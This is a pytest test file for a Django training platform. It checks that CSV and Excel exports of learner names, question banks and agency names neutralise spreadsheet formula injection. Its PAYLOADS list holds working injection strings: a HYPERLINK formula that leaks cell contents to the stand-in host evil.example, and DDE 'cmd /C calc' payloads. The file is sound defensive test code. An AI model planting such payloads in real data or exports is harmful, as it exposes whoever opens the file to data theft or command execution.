"""Issue 13 finding 5, as the attack: text that a spreadsheet takes for a formula, put where
someone else's export will carry it (a learner's own name at sign-up, a question written by
an editor, an agency's name), then the export is downloaded and opened in Excel.

Every export writes such text as text: in CSV with a leading apostrophe (OWASP), in XLSX as
a string cell (never a formula). Numbers stay numbers.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments import services as bank_services
from assessments.interchange import ParsedChoice, ParsedQuestion
from campaigns import services
from campaigns.models import ReportExport
from courses import services as course_services
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def tree(db):
    return factories.agency_tree()


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+84 xem tại =1+1",
    "\t=1+1",
    "\r=1+1",
]
PERIOD = "2026-m10"


def this_month() -> str:
    from django.utils import timezone

    from campaigns.reporting import periods

    return periods.period_containing(timezone.localdate(), kind="month").slug


@pytest.fixture(autouse=True)
def reports_dir(settings, tmp_path):
    settings.REPORTS_DIR = tmp_path / "reports"


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_csv_neutralised(rows: list[list[str]], payloads) -> None:
    cells = [cell for row in rows for cell in row]
    for payload in payloads:
        assert payload not in cells, f"{payload!r} written raw"
        assert "'" + payload in cells, f"{payload!r} missing"


def assert_xlsx_neutralised(content: bytes, payloads) -> None:
    """Each payload is a string cell with exactly its text; no formula in any sheet."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
    for payload in payloads:
        assert found.get(payload) == "s", f"{payload!r}: {found.get(payload)!r}"


@pytest.fixture
def evil_people(tree):
    """Learners of Sở Nội vụ who chose hostile names (sign-up lets anyone choose one)."""
    people = [
        factories.learner(tree["snv"], name=payload, email=f"p{i}@example.vn")
        for i, payload in enumerate(PAYLOADS)
    ]
    for person in people:
        person.learner_profile.job_title = "\t=1+2"  # a tab: Excel skips it, then a formula
        person.learner_profile.save(update_fields=["job_title"])
        person.refresh_from_db()
    # As stored: the account form strips a leading tab or carriage return from a name.
    names = [person.full_name for person in people]
    assert all(name.startswith(("=", "+", "-", "@")) for name in names)
    return {"people": people, "names": names, "manager": factories.manager(tree["snv"])}


def test_people_list_csv(client, tree, evil_people):
    client.force_login(evil_people["manager"])
    response = client.get(reverse("campaigns:people_export", args=[tree["snv"].pk]))
    assert response.status_code == 200
    rows = csv_cells(b"".join(response.streaming_content))
    assert_csv_neutralised(rows, evil_people["names"] + ["\t=1+2"])


def test_question_bank_xlsx_export(client, user_factory):
    question = ParsedQuestion(
        line=1, qtype="single", text=PAYLOADS[0], category="=Nhóm độc", title="@tiêu đề",
        general_feedback="-1+1",
        choices=[ParsedChoice("=1+1", 100), ParsedChoice("+2", 0),
                 ParsedChoice("Bình thường", -50)],
    )  # fmt: skip
    bank_services.bank_import(questions=[question])
    editor = user_factory(is_superuser=True, is_staff=True)
    client.force_login(editor)
    response = client.get(reverse("assessments_bank:export"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_xlsx_neutralised(
        response.content, [PAYLOADS[0], "=Nhóm độc", "@tiêu đề", "-1+1", "=1+1", "+2"]
    )
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    weights = [c.value for c in sheet[2] if isinstance(c.value, int)]
    assert -50 in weights and 100 in weights  # numbers stay numbers


@pytest.fixture
def evil_agency(tree):
    agency = factories.agency(name=PAYLOADS[1], code="=X1", parent=tree["snv"])
    return {"agency": agency, "manager": factories.manager(tree["snv"])}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_period_report(client, tree, evil_agency, fmt):
    client.force_login(evil_agency["manager"])
    tree["snv"].refresh_from_db()
    response = client.get(
        reverse("campaigns:report", args=[tree["snv"].pk]), {"period": PERIOD, "format": fmt}
    )
    assert response.status_code == 200
    if fmt == "csv":
        rows = csv_cells(b"".join(response.streaming_content))
        assert_csv_neutralised(rows, [PAYLOADS[1], "=X1"])
        assert rows[1][3:7] == ["0", "0", "0", "0"]  # counts stay plain numbers
    else:
        assert_xlsx_neutralised(response.content, [PAYLOADS[1], "=X1"])
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        assert sheet.cell(row=8, column=5).data_type == "n"  # a count is a number cell


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_background_people_export(
    client, tree, evil_people, fmt, django_capture_on_commit_callbacks
):
    course = factories.course(lessons=1, title="=Khóa học")
    for person in evil_people["people"]:
        course_services.enrolment_create(user=person, course=course, source="self")
    client.force_login(evil_people["manager"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("campaigns:export_create", kwargs={"agency_id": tree["snv"].pk}),
            # A detail export holds its period's enrolments: the month they are made in.
            {
                "kind": "detail",
                "format": fmt,
                "period": this_month(),
                "campaign": "all",
                "depth": "1",
            },  # fmt: skip
        )
    export = ReportExport.objects.get()
    assert export.status == ReportExport.Status.DONE, export.error
    response = client.get(reverse("campaigns:export_download", args=[export.pk]))
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        assert_csv_neutralised(csv_cells(content), evil_people["names"] + ["=Khóa học"])
    else:
        assert_xlsx_neutralised(content, evil_people["names"] + ["=Khóa học"])


def test_open_data_csv_writes_an_agency_name_as_text(client, tree):
    services.agency_create(
        name=PAYLOADS[2], code="=Y", kind="commune_or_ward", parent=tree["province"]
    )
    response = client.get(reverse("open_data:csv"))
    assert response.status_code == 200
    rows = csv_cells(response.content)
    assert_csv_neutralised(rows, [PAYLOADS[2]])
